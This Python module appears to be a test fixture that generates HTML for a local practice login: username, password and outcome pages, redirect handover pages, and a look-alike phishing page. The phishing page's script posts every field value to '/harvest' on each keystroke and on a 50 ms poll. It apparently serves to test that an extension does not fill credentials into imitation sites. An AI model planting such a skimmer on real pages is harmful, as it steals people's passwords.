"""The HTML of the practice login: what a person sees on its username page, its password page and its end.

Pages are plain on purpose: ordinary labels, names and autocomplete words, as a careful site would write them. Tests
that need odd pages bring their own; nothing here may be bent to suit the extension.
"""

import json
from html import escape

STYLE = """
:root { color-scheme: light; font: 16px/1.5 "DejaVu Sans", "Segoe UI", system-ui, sans-serif; }
body { margin: 0; min-height: 100vh; background: linear-gradient(160deg, var(--from), var(--to)); color: #1d2433; }
header { display: flex; align-items: center; gap: .7rem; padding: 1.1rem 2rem; color: #fff; font-weight: 600; }
header span { width: 1.7rem; height: 1.7rem; border-radius: .5rem; background: #fff3;
  display: grid; place-items: center; }
main { width: 21rem; margin: 3.2rem auto 0 8%; padding: 2rem 2.2rem 2.2rem; background: #fff; border-radius: 1rem;
  box-shadow: 0 1.5rem 3rem #0003; }
h1 { font-size: 1.3rem; margin: 0 0 .3rem; } p { margin: 0 0 1.3rem; color: #5a6478; font-size: .9rem; }
label { display: block; font-size: .85rem; font-weight: 600; margin-bottom: .35rem; }
input { width: 100%; box-sizing: border-box; font: inherit; padding: .6rem .75rem; margin-bottom: 1.1rem;
  border: 1px solid #c6ccd8; border-radius: .5rem; }
input:focus { outline: 2px solid var(--accent); border-color: transparent; }
button { width: 100%; font: inherit; font-weight: 600; padding: .65rem; border: 0; border-radius: .5rem;
  color: #fff; background: var(--accent); }
dl { display: grid; grid-template-columns: auto 1fr; gap: .4rem 1rem; margin: 0; font-size: .9rem; }
dd { margin: 0; font-weight: 600; }
footer { margin: 1.4rem 2rem 0 8%; width: 25.4rem; font-size: .78rem; color: #fffd; text-align: center; }
"""

FIRST_COLOURS = "--from: #31437a; --to: #6d89d6; --accent: #3653a8"
SECOND_COLOURS = "--from: #1f5f5b; --to: #63b3a6; --accent: #1f766f"


def username_page(brand: str, handover: str) -> str:
    """The first page of the login: it asks who is there, and nothing else."""
    return _page(
        f"{brand} - sign in",
        brand,
        FIRST_COLOURS,
        f"""<h1>Sign in to {escape(brand)}</h1><p>First, who are you? The password is asked on the next page.</p>
<form method="post" action="/identify">
  <input type="hidden" name="handover" value="{escape(handover)}">
  <label for="username">User name or e-mail</label>
  <input id="username" name="username" autocomplete="username" required>
  <button type="submit">Continue</button>
</form>""",
    )


def password_page(brand: str, username: str) -> str:
    """The second page of the login, on another host: the name is known, the password is asked."""
    return _page(
        f"{brand} - password",
        brand,
        SECOND_COLOURS,
        f"""<h1>Enter your password</h1><p>Signing in as <strong id="who">{escape(username)}</strong></p>
<form method="post" action="/sign-in">
  <input type="hidden" name="login" value="{escape(username)}">
  <label for="password">Password</label>
  <input id="password" name="password" type="password" autocomplete="current-password" required>
  <button type="submit">Sign in</button>
</form>""",
    )


def outcome_page(brand: str, username: str, *, username_right: bool, password_right: bool) -> str:
    """The end of the login: it says of each value whether it was the right one, and shows neither password."""
    words = {True: "right", False: "wrong"}
    title = "Signed in" if username_right and password_right else "Not signed in"
    return _page(
        f"{brand} - {title.lower()}",
        brand,
        SECOND_COLOURS,
        f"""<h1 id="outcome">{title}</h1><p>Both pages of the login have been sent.</p>
<dl><dt>User name</dt><dd id="username-was">{words[username_right]}</dd><dt>Password</dt>
<dd id="password-was">{words[password_right]}</dd><dt>You are</dt><dd>{escape(username)}</dd></dl>""",
    )


def imitation_page(brand: str) -> str:
    """A page of a stranger that looks like the login and reports at once whatever lands in its fields."""
    return _page(
        f"{brand} - sign in",
        brand,
        SECOND_COLOURS,
        """<h1>Enter your password</h1><p>Your session has run out. Please sign in again.</p>
<form method="post" action="/sign-in">
  <label for="username">User name or e-mail</label>
  <input id="username" name="username" autocomplete="username">
  <label for="password">Password</label>
  <input id="password" name="password" type="password" autocomplete="current-password">
  <button type="submit">Sign in</button>
</form>
<script>
  const report = () => fetch("/harvest", {method: "POST", body: new URLSearchParams(new FormData(document.forms[0]))});
  for (const event of ["input", "change", "submit"]) document.addEventListener(event, report, true);
  let last = "";
  setInterval(() => {
    const now = [...document.querySelectorAll("input")].map((field) => field.value).join("");
    if (now !== last) { last = now; report(); }
  }, 50);
</script>""",
    )


def script_handover(address: str) -> str:
    """A page without a form that sends the browser on by script, as many sign-in pages do."""
    # "<" cannot be in an address; written as JSON, the rest cannot leave the string either.
    script = f"location.replace({json.dumps(address)})"
    return _page("One moment", "One moment", FIRST_COLOURS, f"<h1>One moment</h1><script>{script}</script>")


def posting_handover(address: str, username: str) -> str:
    """A page whose hidden form posts itself to the next host, as SAML's POST binding does."""
    return _page(
        "One moment",
        "One moment",
        FIRST_COLOURS,
        f"""<h1>One moment</h1><form method="post" action="{escape(address)}"><input type="hidden" name="login"
value="{escape(username)}"></form><script>document.forms[0].submit()</script>""",
    )


def _page(title: str, brand: str, colours: str, body: str) -> str:
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>{escape(title)}</title><link rel="icon" href="data:,">
<meta name="viewport" content="width=device-width"><style>:root {{ {colours} }} {STYLE}</style></head>
<body><header><span>{escape(brand[0])}</span>{escape(brand)}</header><main>{body}</main>
<footer>A practice site on this machine. Nothing typed here leaves it.</footer></body></html>"""
